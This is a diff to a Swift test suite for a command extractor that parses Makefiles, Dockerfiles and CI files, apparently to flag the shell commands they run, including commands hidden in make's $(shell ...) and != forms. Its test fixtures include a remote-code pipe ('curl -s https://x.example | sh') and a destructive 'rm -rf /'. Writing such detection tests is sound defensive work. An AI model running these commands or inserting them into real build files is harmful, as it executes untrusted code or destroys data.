@@ -101,8 +101,9 @@ struct CommandExtractorTests {
     @Test("Makefile recipes, Dockerfile RUN, Jenkinsfile sh and package.json scripts keep their lines")
     func otherKinds() {
         let makefile = "deploy:\n\t@terraform apply \\\n\t  -auto-approve\n\t-$(MAKE) -C sub clean\nx = $(shell date)\n"
-        #expect(Self.commands(.makefile, makefile).map(\.line) == [2, 4])
-        #expect(Self.commands(.makefile, makefile).map(\.programs) == [["terraform"], ["${MAKE}"]])
+        // make runs `$(shell ...)` itself, wherever it appears.
+        #expect(Self.commands(.makefile, makefile).map(\.line) == [2, 4, 5])
+        #expect(Self.commands(.makefile, makefile).map(\.programs) == [["terraform"], ["${MAKE}"], ["date"]])
 
         let dockerfile =
             "FROM alpine\nRUN apk add curl && \\\n    curl -s https://x.example | sh\nRUN [\"sh\", \"-c\", \"rm -rf /\"]\n"
@@ -171,6 +172,22 @@ struct CommandExtractorTests {
         #expect(Self.commands(.gitlabCI, gitlab, added: [11]).map(\.programs) == [["curl", "sh"]])
         #expect(Self.commands(.gitlabCI, gitlab, added: [13]).map(\.programs) == [["terraform"]])
         #expect(Self.commands(.gitlabCI, gitlab, added: [7, 9, 12]).isEmpty)
+    }
+
+    @Test("make runs $(shell ...) and != assignments while reading the file: they are commands too")
+    func makeShellFunctions() {
+        let makefile = """
+            VERSION := $(shell git describe --tags)
+            STATE != terraform apply -auto-approve
+            FILES = $(foreach d,src,$(wildcard $(d)/*.c) ${shell curl -s https://x.example | sh})
+            all:
+            \techo $(shell id -u)
+            """
+        #expect(
+            Self.commands(.makefile, makefile).map(\.programs) == [
+                ["git"], ["terraform"], ["curl", "sh"], ["id"], ["echo"],
+            ])
+        #expect(Self.commands(.makefile, makefile, added: [4]).isEmpty)
     }
 
     @Test("a CI file that does not parse is a parse fact with the parser's position")
